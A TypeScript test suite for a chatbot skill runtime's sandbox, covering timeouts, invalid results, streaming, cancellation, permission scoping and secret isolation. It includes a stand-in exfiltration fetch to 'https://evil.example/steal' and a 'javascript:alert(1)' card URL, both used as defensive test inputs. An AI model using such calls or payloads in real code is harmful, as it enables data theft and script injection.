import { test, mock } from 'node:test';
import assert from 'node:assert/strict';
import { createSkillRuntime, DEFAULT_SKILL_TIMEOUT_MS } from '../../../src/skills/runtime.ts';
import { defineSkill } from '../../../src/skills/define-skill.ts';
import type { SkillContext, SkillDefinition, SkillResult } from '../../../src/skills/types.ts';
import { auditRecorder, delay, invocationOf, openTestStore, recordingFetch } from '../../fixtures/skills/helpers.ts';

const skill = (
  execute: (ctx: SkillContext) => SkillResult | Promise<SkillResult>,
  extra: Partial<SkillDefinition> = {},
) => defineSkill({ id: 'test.skill', version: '1.0.0', intents: ['test'], execute, ...extra });

async function setup(options: Parameters<typeof createSkillRuntime>[0] extends infer O ? Partial<O> : never = {}) {
  const store = await openTestStore();
  const rec = auditRecorder();
  const runtime = createSkillRuntime({ store, audit: rec.audit, ...options });
  return { store, runtime, audit: rec.entries };
}

test('a string or a reply object comes back as a clean NormalizedReply', async () => {
  const { runtime } = await setup();
  assert.deepEqual(await runtime.invoke(invocationOf(skill(() => 'Hi!'))), { text: 'Hi!' });
  const reply = await runtime.invoke(
    invocationOf(
      skill(
        async () =>
          ({
            text: 'Order 42',
            markdown: '**Order 42**',
            quickReplies: [{ label: 'Track', value: 'track 42', extra: 1 }],
            cards: [
              { title: 'A', url: 'javascript:alert(1)', image: 'http://x/y.png' },
              { title: 'B', url: 'https://acme.com/42' },
            ],
            ask: { question: 'Anything else?' },
            secretField: 'x',
          }) as unknown as SkillResult,
      ),
    ),
  );
  assert.deepEqual(reply, {
    text: 'Order 42',
    markdown: '**Order 42**',
    quickReplies: [{ label: 'Track', value: 'track 42' }],
    cards: [{ title: 'A' }, { title: 'B', url: 'https://acme.com/42' }],
    ask: { question: 'Anything else?' },
  });
});

test('a skill that throws gives a polite fallback and an audit entry without the error message', async () => {
  const { runtime, audit } = await setup();
  const reply = await runtime.invoke(
    invocationOf(
      skill(() => {
        throw new TypeError('secret user words');
      }),
    ),
  );
  assert.equal(reply.failed, 'error');
  assert.match(reply.text, /Sorry/);
  assert.deepEqual(audit, [{ type: 'skill-error', skillId: 'test.skill', detail: { error: 'TypeError' } }]);
  assert.ok(!JSON.stringify(audit).includes('secret'));
});

test('garbage results are refused as invalid', async () => {
  const { runtime } = await setup();
  const hostile = {
    get text(): string {
      throw new Error('boom');
    },
  };
  const proxy = new Proxy(
    {},
    {
      get: () => {
        throw new Error('trap');
      },
      ownKeys: () => {
        throw new Error('trap');
      },
    },
  );
  // A Proxy whose `then` trap throws makes the promise itself reject: that is an error, not a result.
  assert.equal((await runtime.invoke(invocationOf(skill(() => proxy as SkillResult)))).failed, 'error');
  const garbage: unknown[] = [
    42,
    null,
    undefined,
    '',
    '   ',
    { text: 5 },
    { text: '' },
    hostile,
    [1, 2],
    { text: 'x'.repeat(100_001) },
    { text: 'ok', quickReplies: 'yes' },
    { text: 'ok', cards: [{}] },
    { text: 'ok', ask: {} },
    Symbol('s'),
    () => 'fn',
  ];
  for (const g of garbage) {
    const reply = await runtime.invoke(invocationOf(skill(() => g as SkillResult)));
    assert.equal(reply.failed, 'invalid', String(typeof g));
  }
  const badStreams = [
    (async function* () {
      yield 'a';
      yield 42 as unknown as string;
    })(),
    (async function* () {})(),
    { [Symbol.asyncIterator]: () => ({ next: async () => null }) },
    { [Symbol.asyncIterator]: () => 'nope' },
  ];
  for (const s of badStreams)
    assert.equal((await runtime.invoke(invocationOf(skill(() => s as SkillResult)))).failed, 'invalid');
  const rejecting = { then: (_: unknown, reject: (e: unknown) => void) => reject(new Error('x')) };
  assert.equal((await runtime.invoke(invocationOf(skill(() => rejecting as unknown as SkillResult)))).failed, 'error');
});

test('a hanging skill is released at its timeout and its signal aborts with TimeoutError', async () => {
  const { runtime, audit } = await setup();
  let seen: AbortSignal | undefined;
  const started = performance.now();
  const reply = await runtime.invoke(
    invocationOf(
      skill(
        (ctx) => {
          seen = ctx.signal;
          return new Promise<never>(() => {});
        },
        { timeoutMs: 150 },
      ),
    ),
  );
  const took = performance.now() - started;
  assert.equal(reply.failed, 'timeout');
  assert.ok(took >= 140 && took < 1_000, `released after ${took} ms`);
  assert.equal(seen!.aborted, true);
  assert.equal((seen!.reason as DOMException).name, 'TimeoutError');
  assert.deepEqual(audit, [{ type: 'skill-timeout', skillId: 'test.skill', detail: { timeoutMs: 150 } }]);
});

test('the default timeout is 10 s', { timeout: 5_000 }, async () => {
  assert.equal(DEFAULT_SKILL_TIMEOUT_MS, 10_000);
  const { runtime } = await setup();
  mock.timers.enable({ apis: ['setTimeout'] });
  try {
    let settled = false;
    const pending = runtime
      .invoke(invocationOf(skill(() => new Promise<never>(() => {}))))
      .finally(() => (settled = true));
    for (let i = 0; i < 50; i++) await Promise.resolve();
    mock.timers.tick(9_999);
    for (let i = 0; i < 20; i++) await Promise.resolve();
    assert.equal(settled, false);
    mock.timers.tick(1);
    assert.equal((await pending).failed, 'timeout');
  } finally {
    mock.timers.reset();
  }
});

test('streaming: chunks go to onDelta in order and the reply holds the whole text', async () => {
  const { runtime } = await setup();
  const deltas: string[] = [];
  const reply = await runtime.invoke(
    invocationOf(
      skill(async function* () {
        yield 'Hel';
        await delay(5);
        yield 'lo ';
        yield 'world';
      }),
      { onDelta: (t) => deltas.push(t) },
    ),
  );
  assert.deepEqual(deltas, ['Hel', 'lo ', 'world']);
  assert.deepEqual(reply, { text: 'Hello world' });
});

test('a stream that stalls times out and its iterator is closed', async () => {
  const { runtime } = await setup();
  let closed = false;
  let calls = 0;
  const stalls = {
    [Symbol.asyncIterator]: () => ({
      next: () => (++calls === 1 ? Promise.resolve({ value: 'start', done: false }) : new Promise<never>(() => {})),
      return: async () => {
        closed = true;
        return { value: undefined, done: true as const };
      },
    }),
  };
  const deltas: string[] = [];
  const reply = await runtime.invoke(
    invocationOf(
      skill(() => stalls, { timeoutMs: 100 }),
      { onDelta: (t) => deltas.push(t) },
    ),
  );
  assert.equal(reply.failed, 'timeout');
  assert.deepEqual(deltas, ['start']);
  await delay(5);
  assert.equal(closed, true, 'the runtime asked the iterator to close');
});

test('cancelling the turn rejects with the signal reason and aborts ctx.signal', async () => {
  const { runtime } = await setup();
  const controller = new AbortController();
  let seen: AbortSignal | undefined;
  const pending = runtime.invoke(
    invocationOf(
      skill((ctx) => {
        seen = ctx.signal;
        return new Promise<never>(() => {});
      }),
      { signal: controller.signal },
    ),
  );
  await delay(10);
  const reason = new DOMException('user cancelled', 'AbortError');
  controller.abort(reason);
  await assert.rejects(pending, (e) => e === reason);
  assert.equal(seen!.aborted, true);
  await assert.rejects(
    runtime.invoke(
      invocationOf(
        skill(() => 'x'),
        { signal: controller.signal },
      ),
    ),
    (e) => e === reason,
  );
});

test('the context holds only what the manifest declares', async () => {
  const { runtime, store } = await setup({ fetch: recordingFetch().fetch });
  let bare: SkillContext | undefined;
  await runtime.invoke(
    invocationOf(
      skill((ctx) => {
        bare = ctx;
        return 'ok';
      }),
    ),
  );
  for (const key of ['fetch', 'storage', 'profile', 'schedule', 'secret'] as const)
    assert.equal(bare![key], undefined, key);
  assert.ok(Object.isFrozen(bare));
  assert.ok(Object.isFrozen(bare!.slots));

  const writer = skill(
    async (ctx) => {
      await ctx.storage!.set('k', 'mine');
      return 'ok';
    },
    { permissions: { storage: true } },
  );
  await runtime.invoke(invocationOf(writer));
  assert.equal(await store.skillData('test.skill').get('k'), 'mine');
  const other = defineSkill({
    id: 'other.skill',
    version: '1.0.0',
    intents: ['t'],
    permissions: { storage: true },
    execute: async (ctx) => String(await ctx.storage!.get('k')),
  });
  assert.equal((await runtime.invoke(invocationOf(other))).text, 'undefined');
});

test('slots are a frozen copy: a skill cannot change what the dialogue manager holds', async () => {
  const { runtime } = await setup();
  const slots = { city: 'Paris', nested: { a: 1 } };
  const reply = await runtime.invoke(
    invocationOf(
      skill((ctx) => {
        (ctx.slots as Record<string, unknown>).city = 'Evil';
        return 'x';
      }),
      { slots },
    ),
  );
  assert.equal(reply.failed, 'error');
  assert.equal(slots.city, 'Paris');
});

test('an undeclared origin inside execute fails as permission, audited, nothing sent', async () => {
  const rec = recordingFetch();
  const { runtime, audit } = await setup({ fetch: rec.fetch, requestPermission: async () => true });
  const s = skill(async (ctx) => (await ctx.fetch!('https://evil.example/steal')).text(), {
    permissions: { network: ['https://api.acme.com'] },
  });
  const reply = await runtime.invoke(invocationOf(s));
  assert.equal(reply.failed, 'permission');
  assert.deepEqual(rec.requested, []);
  assert.deepEqual(audit.at(-1), {
    type: 'skill-permission-error',
    skillId: 'test.skill',
    detail: { error: 'PermissionError', code: 'undeclared-origin' },
  });
});

test('a consequential skill is refused without confirmed and runs with it', async () => {
  const { runtime, audit } = await setup();
  let ran = 0;
  const s = skill(
    () => {
      ran++;
      return 'Booked.';
    },
    { permissions: { consequential: true } },
  );
  assert.equal((await runtime.invoke(invocationOf(s))).failed, 'permission');
  assert.equal(ran, 0);
  assert.equal(audit[0]!.type, 'confirmation-missing');
  assert.deepEqual(await runtime.invoke(invocationOf(s, { confirmed: true })), { text: 'Booked.' });
});

test('plain-object skills are validated; a bad manifest fails politely', async () => {
  const { runtime } = await setup();
  const plain = { id: 'Bad Id', version: '1.0.0', intents: ['x'], execute: () => 'x' } as SkillDefinition;
  assert.equal((await runtime.invoke(invocationOf(plain))).failed, 'invalid');
  const fine = { id: 'plain.ok', version: '1.0.0', intents: ['x'], execute: () => 'fine' } as SkillDefinition;
  assert.deepEqual(await runtime.invoke(invocationOf(fine)), { text: 'fine' });
});

test('a secret is handed only to the skill it was set for', async () => {
  const { runtime } = await setup();
  await runtime.setSecret('test.skill', 'tok-123');
  const mine = skill(async (ctx) => String(await ctx.secret!()), { permissions: { secret: true } });
  const theirs = defineSkill({
    id: 'other.skill',
    version: '1.0.0',
    intents: ['t'],
    permissions: { secret: true },
    execute: async (ctx) => String(await ctx.secret!()),
  });
  const undeclared = defineSkill({
    id: 'test.skill2',
    version: '1.0.0',
    intents: ['t'],
    execute: (ctx) => String(ctx.secret),
  });
  assert.equal((await runtime.invoke(invocationOf(mine))).text, 'tok-123');
  assert.equal((await runtime.invoke(invocationOf(theirs))).text, 'undefined');
  assert.equal((await runtime.invoke(invocationOf(undeclared))).text, 'undefined');
});

test('the profile view cannot read grants, secrets or other settings', async () => {
  const { runtime, store } = await setup({ requestPermission: async () => true });
  await runtime.setSecret('x.y', 'tok');
  await store.settings().set('profile.name', 'Ada');
  const s = skill(
    async (ctx) => JSON.stringify({ keys: await ctx.profile!.keys(), name: await ctx.profile!.get('name') }),
    { permissions: { profile: true } },
  );
  assert.equal((await runtime.invoke(invocationOf(s))).text, '{"keys":["name"],"name":"Ada"}');
});

test('dispose aborts running calls', async () => {
  const { runtime } = await setup();
  const pending = runtime.invoke(invocationOf(skill(() => new Promise<never>(() => {}))));
  await delay(10);
  runtime.dispose();
  await assert.rejects(pending, (e: unknown) => (e as DOMException).name === 'AbortError');
});
